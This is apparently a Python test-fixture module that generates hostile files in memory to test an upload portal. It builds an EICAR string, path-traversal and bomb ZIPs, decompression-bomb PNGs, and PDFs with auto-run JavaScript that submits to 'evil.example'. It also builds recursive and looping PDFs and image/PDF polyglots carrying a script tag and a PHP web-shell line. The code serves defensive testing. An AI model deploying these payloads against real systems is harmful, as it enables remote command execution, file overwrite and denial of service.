"""Files as attackers, scanners and honest people make them. Every one is built here, in memory; none is anybody's.

In:  what is to be wrong with it.
Out: bytes.
Never here: a file on the disk. The test virus is put together when it is asked for, so that no scanner stops this file.
"""

import io
import struct
import zipfile
import zlib

import pypdfium2
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

GPS, GPS_LATITUDE, DESCRIPTION, ORIENTATION = 0x8825, 2, 0x010E, 0x0112
SCRIPT = b"<script>fetch('/admin/').then(alert)</script><?php system($_GET['c']); ?>"
_A4 = (595, 842)


def virus() -> bytes:
    """The test file that all scanners agree to call a virus (EICAR)."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


# --- pictures --------------------------------------------------------------------------------------------------------


def picture(kind: str, *, mode: str = "RGB", size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 50).convert(mode).save(buffer, kind, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def with_place(kind: str) -> bytes:
    """A photograph that knows where it was taken, and by whom."""
    exif = Image.Exif()
    exif[DESCRIPTION] = "taken by jane doe"
    exif[GPS] = {1: "N", GPS_LATITUDE: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)}
    return picture(kind, exif=exif)


def huge_png(width: int, height: int) -> bytes:
    """One line of black, claimed to be ``height`` lines: the header is all a decoder needs to give up."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = zlib.compress(bytes(width // 8 + 1))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def flood_png(width: int, height: int) -> bytes:
    """A true picture of so many pixels, white all over: tens of kilobytes that unfold to as much as is claimed."""
    buffer = io.BytesIO()
    Image.new("1", (width, height), 1).save(buffer, "PNG")
    return buffer.getvalue()


# --- archives --------------------------------------------------------------------------------------------------------


def archive(payload: bytes = b"x", *, copies: int = 1) -> bytes:
    """A ZIP whose members want out of it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for number in range(copies):
            made.writestr("../" * (number + 2) + "etc/passwd", payload)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """500 MB of nothing in half a megabyte."""
    return archive(bytes(100_000_000), copies=5)


# --- PDF -------------------------------------------------------------------------------------------------------------


def pdf(*, pages: int = 1, size: tuple[float, float] = _A4) -> bytes:
    document = pypdfium2.PdfDocument.new()
    for _ in range(pages):
        document.new_page(*size)
    buffer = io.BytesIO()
    document.save(buffer)
    document.close()
    return buffer.getvalue()


def drawn_pdf(content: bytes, *, size: tuple[float, float] = _A4, pages: int = 1) -> bytes:
    """Pages that all show ``content`` (operators of PDF), with Helvetica for a font, as ``/F``."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf(pages=pages, size=size)))
    font = DictionaryObject(
        {NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
         NameObject("/BaseFont"): NameObject("/Helvetica")}
    )  # fmt: skip
    stream = StreamObject()
    stream.set_data(content)
    shown = writer._add_object(stream)
    for page in writer.pages:
        page[NameObject("/Contents")] = shown
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F"): font})}
        )
    return _written(writer)


def text_pdf(text: str, *, pages: int = 1) -> bytes:
    return drawn_pdf(f"BT /F 24 Tf 60 700 Td ({text}) Tj ET".encode(), pages=pages)


def locked_pdf(password: str) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt(password, "owner", algorithm="AES-256")
    return _written(writer)


def loaded_pdf() -> bytes:
    """Everything that a PDF can carry and a page does not show: a script, a file, metadata."""
    writer = PdfWriter(clone_from=io.BytesIO(text_pdf("visible")))
    script = TextStringObject("app.alert('SCRIPT-INSIDE'); this.submitForm('http://evil.example/');")
    writer.add_attachment("ATTACHED-NAME.exe", b"ATTACHED-BYTES " + virus())
    writer.add_metadata({"/Author": "METADATA-AUTHOR", "/Title": "METADATA-TITLE"})
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script}
    )
    return _written(writer)


def filled_form() -> bytes:
    """A form with a field that somebody filled in: what it says is drawn, though it is not in the page's content."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    shape = StreamObject()
    shape.set_data(b"0 0 0 rg 0 0 200 50 re f")
    shape.update({NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Form"),
                  NameObject("/BBox"): _numbers(0, 0, 200, 50)})  # fmt: skip
    field = writer._add_object(DictionaryObject(
        {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
         NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("name"),
         NameObject("/F"): NumberObject(4),
         NameObject("/Rect"): _numbers(100, 600, 300, 650),
         NameObject("/AP"): DictionaryObject({NameObject("/N"): writer._add_object(shape)})}
    ))  # fmt: skip
    writer.pages[0][NameObject("/Annots")] = _array(field)
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): _array(field)})
    return _written(writer)


def endless_pdf() -> bytes:
    """A page that draws a page that draws … ten of each: ten to the tenth rectangles."""
    parts = [b"%PDF-1.7\n"]
    forms = 10
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>",
               _stream(b"", b"/X Do\n" * 10)]  # fmt: skip
    for level in range(forms):
        below = f"/Resources<</XObject<</X {6 + level} 0 R>>>>".encode() if level < forms - 1 else b""
        shown = b"/X Do\n" * 10 if level < forms - 1 else b"0 0 595 842 re f\n" * 10
        objects.append(_stream(b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]" + below, shown))
    return _numbered(parts, objects)


def looping_pdf() -> bytes:
    """Whose table of objects points back at itself, and whose tree of pages is a ring."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9/Parent 2 0 R>>"]
    whole = _numbered([b"%PDF-1.7\n"], objects)
    at = whole.index(b"xref")
    return whole.replace(b"/Root 1 0 R", f"/Root 1 0 R/Prev {at}".encode())


def _stream(head: bytes, content: bytes) -> bytes:
    packed = zlib.compress(content)
    return b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (head, len(packed), packed)


def _numbered(parts: list[bytes], objects: list[bytes]) -> bytes:
    places = []
    for number, one in enumerate(objects, start=1):
        places.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, one))
    start = sum(map(len, parts))
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    parts += [b"%010d 00000 n \n" % place for place in places]
    parts.append(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return b"".join(parts)


def _numbers(*values: int):
    return _array(*map(NumberObject, values))


def _array(*values):
    return ArrayObject(values)


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- files that are two things ---------------------------------------------------------------------------------------


def polyglots() -> dict[str, tuple[str, bytes]]:
    """Name → (file name, bytes) of files that are one thing to the portal and another to somebody else."""
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    jpeg, png, paper = picture("JPEG"), picture("PNG"), text_pdf("visible")
    inside = jpeg[:2] + comment + jpeg[2:]
    return {
        "a JPEG with a program and a ZIP": ("a.jpg", inside + archive(SCRIPT)),
        "a JPEG with a program in a comment": ("a.jpg", inside),
        "a JPEG before a Java archive": ("a.jpg", picture("JPEG") + archive(b"\xca\xfe\xba\xbe" + SCRIPT)),
        "a PNG before a script": ("a.png", png + SCRIPT),
        "a PDF with a script in a comment": ("a.pdf", paper[:9] + b"%" + SCRIPT + b"\n" + paper[9:]),
        "a PDF before a script": ("a.pdf", paper + SCRIPT),
        "a script before a PDF": ("a.pdf", SCRIPT + paper),
        "a PDF that is a ZIP": ("a.pdf", paper + archive(SCRIPT) + b"%%EOF"),
        "a loaded PDF": ("a.pdf", loaded_pdf()),
    }


def text_of(paper: bytes) -> str:
    """The text that a PDF has, where it has any."""
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(paper)).pages)
